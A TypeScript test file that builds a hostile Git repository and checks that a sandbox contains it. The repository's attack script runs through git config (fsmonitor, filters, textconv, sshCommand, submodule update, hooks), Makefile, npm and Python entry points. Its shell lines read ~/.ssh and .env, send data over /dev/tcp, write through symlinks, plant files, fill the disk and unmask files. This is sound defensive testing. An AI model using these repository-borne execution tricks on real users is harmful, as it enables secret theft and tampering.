/** Repositories that attack their users: each way in which one runs its own program, with the sandbox and without. */
import { execFile, execFileSync, spawnSync } from 'node:child_process'
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { createServer } from 'node:net'
import { homedir } from 'node:os'
import { dirname, join } from 'node:path'
import { promisify } from 'node:util'
import { describe, expect, it, onTestFinished } from 'vitest'
import { tempFolder } from '../../fakes/disks/temp-folder.ts'
import { sandboxedProject, sandboxHere } from '../../fakes/rigs/real-sandbox.ts'
import { seededRandom } from '../../fakes/seeded-random.ts'

const here = await sandboxHere()
const isSoak = process.env.TSUGI_SOAK !== undefined
const rounds = isSoak ? 100 : 1
const firstSeed = Number(process.env.TSUGI_SEED ?? 1)
/** A number in the arguments of processes that an attack leaves running, by which they are found. */
const sleepSeconds = 40_000 + (process.pid % 10_000)

/** Ways to run `./attack NAME`, with the user's command line that triggers each. */
const triggers: Record<string, string> = {
  fsmonitor: 'git status',
  alias: 'git st',
  clean: 'git diff --stat',
  textconv: 'git diff b.bin',
  external: 'git diff c.ext',
  ssh: 'git ls-remote ssh://host.invalid/x',
  helper: 'git ls-remote attack::x',
  hook: 'git hook run pre-commit',
  editor: 'git var GIT_EDITOR && sh -c "$(git var GIT_EDITOR)"',
  submodule: 'git submodule update --force',
  make: 'make',
  npm: 'npm test --silent',
  conftest: 'python3 -c "import conftest"',
  node: 'node .',
  configure: './configure',
}

const config = `
[core]
\tfsmonitor = ./attack fsmonitor
\teditor = ./attack editor
\tsshCommand = ./attack ssh
[alias]
\tst = "!./attack alias"
[filter "evil"]
\tclean = ./attack clean
[diff "conv"]
\ttextconv = ./attack textconv
[diff "ext"]
\tcommand = ./attack external
[protocol "attack"]
\tallow = always
[submodule "sub"]
\turl = ./sub.git
\tactive = true
\tupdate = "!../attack submodule"
`

const files: Record<string, string> = {
  'a.txt': 'one\n',
  'b.bin': 'one\n',
  'c.ext': 'one\n',
  '.gitattributes': 'a.txt filter=evil\n*.bin diff=conv\n*.ext diff=ext\n',
  Makefile: 'all:\n\t@./attack make\n',
  'package.json': '{"main":"index.js","scripts":{"test":"./attack npm"}}',
  'conftest.py': "import subprocess\nsubprocess.run(['./attack', 'conftest'])\n",
  'index.js': "require('node:child_process').spawnSync('./attack', ['node'])",
  configure: '#!/bin/sh\n./attack configure\n',
  'git-remote-attack': '#!/bin/sh\n./attack helper\n',
}

type Targets = { outside: string; planted: string; port: number; home: string }
type Deed = {
  /** Shell lines, in the repository. */
  lines(targets: Targets): string
  /** True where the lines have got what they are after. */
  isDone(after: { seen: Seen; output: string; project: string }): boolean
}
/** The places outside of the repository that the attacks try to change, as they are after an attack. */
type Seen = {
  kept: string | false
  outside: string[]
  planted: boolean[]
  hasFlood: boolean
  reached: number
}

const floodBytes = 100 * 1024 ** 2
/** A file that the flood writes outside of the repository. */
const flood = `/tmp/flood-${process.pid}`
const sleepers = (): string[] =>
  spawnSync('pgrep', ['-f', `sleep ${sleepSeconds}`], { encoding: 'utf8' })
    .stdout.split('\n')
    .filter(Boolean)

/** Actions of an attack. */
const deeds: Record<string, Deed> = {
  'removes a file outside': {
    lines: ({ outside }) => `echo owned > ${outside}/kept; rm -rf ${outside}/kept`,
    isDone: ({ seen }) => seen.kept === false,
  },
  'reads secrets': {
    lines: ({ outside }) => `cat ${outside}/kept ~/.ssh/* .env > stolen; cat stolen`,
    isDone: ({ output }) =>
      ['outside', 'home', 'project'].every((place) => output.includes(`SECRET of the ${place}`)),
  },
  'plants files in the home folder': {
    lines: ({ planted }) => `touch ${planted}; echo 'touch ${planted}' >> ~/.bashrc.tsugi-test`,
    isDone: ({ seen }) => seen.planted.every(Boolean),
  },
  'connects to a server': {
    lines: ({ port }) => `bash -c 'echo stolen > /dev/tcp/127.0.0.1/${port}'`,
    isDone: ({ seen }) => seen.reached > 0,
  },
  'writes through links': {
    lines: ({ outside }) => `ln -s ${outside} away; echo owned > away/kept; echo owned > out/new`,
    isDone: ({ seen }) => seen.kept === 'owned\n' && seen.outside.includes('new'),
  },
  'leaves a process running': {
    lines: () => `(setsid nohup sleep ${sleepSeconds} > /dev/null 2>&1 &)`,
    isDone: () => sleepers().length > 0,
  },
  'fills the disk': {
    lines: () => `dd if=/dev/zero of=flood bs=1M count=100; dd if=/dev/zero of=${flood} bs=1M count=100`,
    isDone: ({ project }) =>
      [join(project, 'flood'), flood].every((path) => statSync(path).size === floodBytes),
  },
  'changes Git’s folder': {
    lines: () => 'echo "#!/bin/sh" > .git/hooks/post-commit; echo x >> .git/config; mv .git .git2',
    isDone: ({ project }) => existsSync(join(project, '.git2', 'hooks', 'post-commit')),
  },
  'writes its own rules': {
    lines: () => 'mkdir -p .tsugi; echo "{}" > .tsugi/rules.json; chmod -R 777 .',
    isDone: ({ project }) => (statSync(join(project, '.tsugi', 'rules.json')).mode & 0o777) === 0o777,
  },
  'reads a masked file': {
    lines: ({ outside }) => `unshare -Ur mount --bind ${outside} out; umount -l .env; cat .env`,
    isDone: ({ output }) => output.includes('SECRET of the project'),
  },
  // The last one: deeds behind it could start no process.
  'starts many processes': {
    lines: () => 'for i in $(seq 80); do sleep 1 & done; echo all started',
    isDone: ({ output }) => output.includes('all started'),
  },
}

function makeRepository(project: string, targets: Targets, chosen: readonly string[]): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, path)), { recursive: true })
    writeFileSync(join(project, path), text)
  }
  const git = (...args: string[]): string =>
    execFileSync('git', ['-c', 'user.email=a@example.com', '-c', 'user.name=a', ...args], {
      cwd: project,
      encoding: 'utf8',
      stdio: 'pipe',
    })
  git('init', '-q')
  git('add', '-A')
  git('commit', '-qm', 'one')
  const head = git('rev-parse', 'HEAD').trim()
  git('clone', '-q', '--bare', '.', 'sub.git')
  writeFileSync(join(project, '.gitmodules'), '[submodule "sub"]\n\tpath = sub\n\turl = ./sub.git\n')
  git('update-index', '--add', '--cacheinfo', `160000,${head},sub`)
  git('clone', '-q', 'sub.git', 'sub')
  git('add', '.gitmodules')
  git('commit', '-qm', 'two')
  for (const name of ['a.txt', 'b.bin', 'c.ext']) writeFileSync(join(project, name), 'changed\n')
  writeFileSync(join(project, '.git/hooks/pre-commit'), '#!/bin/sh\n./attack hook\n')
  placeAttack(project, targets, chosen)
  for (const name of ['configure', 'git-remote-attack', '.git/hooks/pre-commit'])
    chmodSync(join(project, name), 0o755)
  writeFileSync(join(project, '.git/config'), readFileSync(join(project, '.git/config'), 'utf8') + config)
}

/** Writes the program of the attack and what it is after in the repository. */
function placeAttack(project: string, targets: Targets, chosen: readonly string[]): void {
  writeFileSync(join(project, '.env'), 'SECRET of the project\n')
  symlinkSync(targets.outside, join(project, 'out'))
  const script = ['#!/bin/sh', `cd ${project}`, 'touch "ran-$1"', ...chosen.map((each) => `( ${each} ) 2>&1`)]
  writeFileSync(join(project, 'attack'), `${script.join('\n')}\ntrue\n`, { mode: 0o755 })
}

async function targetsHere(home = homedir()) {
  const outside = tempFolder()
  writeFileSync(join(outside, 'kept'), 'SECRET of the outside\n')
  const planted = join(home, `.tsugi-planted-${process.pid}`)
  let reached = 0
  const server = createServer((socket) => {
    reached += 1
    socket.destroy()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  onTestFinished(() => {
    server.close()
    for (const path of [planted, join(home, '.bashrc.tsugi-test'), flood]) rmSync(path, { force: true })
  })
  const address = server.address()
  const port = typeof address === 'object' && address !== null ? address.port : 0
  const seen = (): Seen => ({
    kept: existsSync(join(outside, 'kept')) && readFileSync(join(outside, 'kept'), 'utf8'),
    outside: readdirSync(outside),
    planted: [planted, join(home, '.bashrc.tsugi-test')].map((path) => existsSync(path)),
    hasFlood: existsSync(flood),
    reached,
  })
  return { targets: { outside, planted, port, home }, seen }
}

function stateOf(project: string): string {
  const find = ['.', '-type', 'f', '-printf', '%p %m %s %T@\\n', '-o', '-printf', '%p %y %l\\n']
  return execFileSync('find', find, { cwd: project, encoding: 'utf8' }).split('\n').sort().join('\n')
}

/** Lines that run one after the other, each in a shell of its own that finds the programs of the folder. */
function linesOf(names: readonly string[]): string {
  const run = (line = ''): string => `( PATH="$PWD:$PATH" timeout 10 bash -c '${line}' ) 2>&1 </dev/null`
  return names.map((name) => run(triggers[name])).join('\n')
}
const hasProgram = (name: string): boolean => spawnSync(name, ['--version']).status === 0
const usable = Object.keys(triggers).filter(
  (name) =>
    (name !== 'make' || hasProgram('make')) &&
    (name !== 'conftest' || hasProgram('python3')) &&
    (name !== 'npm' || hasProgram('npm')),
)
const ranIn = (folder: string): string[] =>
  readdirSync(folder).flatMap((name) => (name.startsWith('ran-') ? name.slice('ran-'.length) : []))

describe.skipIf(here.kind === 'none')('a repository that attacks', () => {
  it('gets to run its program by each of its ways without the wall', async () => {
    const { targets } = await targetsHere()
    const project = tempFolder()
    makeRepository(project, targets, [`echo owned > ${targets.outside}/kept`])
    spawnSync('bash', ['-c', linesOf(usable)], { cwd: project, timeout: 60_000 })
    expect(ranIn(project).sort()).toEqual([...usable].sort())
    expect(readFileSync(join(targets.outside, 'kept'), 'utf8')).toBe('owned\n')
  })

  it.each(Object.entries(deeds))('%s without the wall', async (_does, { lines, isDone }) => {
    const [project, home] = [tempFolder(), tempFolder()]
    const { targets, seen } = await targetsHere(home)
    mkdirSync(join(project, '.git', 'hooks'), { recursive: true })
    mkdirSync(join(home, '.ssh'))
    writeFileSync(join(home, '.ssh', 'key'), 'SECRET of the home\n')
    placeAttack(project, targets, [lines(targets)])
    onTestFinished(() => {
      for (const pid of sleepers()) process.kill(Number(pid), 'SIGKILL')
    })
    const env = { ...process.env, HOME: home }
    const { stdout: output } = await promisify(execFile)('./attack', ['alone'], { cwd: project, env })
    await expect.poll(() => isDone({ seen: seen(), output, project })).toBe(true)
  })

  it.each(Array.from({ length: rounds }, (_, at) => firstSeed + at))(
    'reaches nothing from behind it, whatever it does (seed %i)',
    async (seed) => {
      const random = seededRandom(seed)
      const { targets, seen } = await targetsHere()
      const { project, dataDir, run } = await sandboxedProject()
      // The first round does everything.
      const chosen = Object.values(deeds)
        .filter(() => seed === 1 || random() < 0.5)
        .map(({ lines }) => lines(targets))
      makeRepository(project, targets, chosen)
      const [before, tree] = [seen(), stateOf(project)]
      // Attacks by Git's own configuration, and by the project's.
      const names = ['fsmonitor', 'alias', 'configure', ...usable.filter(() => isSoak && random() < 0.5)]
      const walled = await run(linesOf([...new Set(names)]), {
        masked: ['.env'],
        timeoutMs: 60_000,
        limitProcesses: 60,
      })
      expect(walled.output).not.toMatch(/SECRET/)
      expect(seen()).toEqual(before)
      expect(stateOf(project)).toBe(tree)
      // No process of the attack still runs, and its files have stopped growing.
      expect(sleepers()).toEqual([])
      const sizeKb = Number(execFileSync('du', ['-sk', dataDir], { encoding: 'utf8' }).split('\t')[0])
      expect(sizeKb).toBeLessThan(300_000)
      // The attacks did run in the sandbox, also those by Git, as far as the read-only `.git` folder allows.
      const ran = ranIn(join(walled.run.folder, 'upper'))
      expect(ran).toEqual(expect.arrayContaining(['alias', 'configure', 'fsmonitor']))
    },
  )
})
